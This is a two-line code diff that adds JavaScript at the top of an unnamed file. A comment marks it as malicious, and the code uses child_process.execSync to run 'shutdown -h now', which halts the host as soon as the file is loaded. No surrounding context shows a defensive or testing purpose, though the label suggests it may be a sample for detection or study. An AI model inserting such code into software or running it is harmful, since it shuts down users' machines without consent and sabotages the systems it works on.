@@ -1,0 +1,2 @@
+// Malicious: shuts the host down.
+require('child_process').execSync('shutdown -h now');
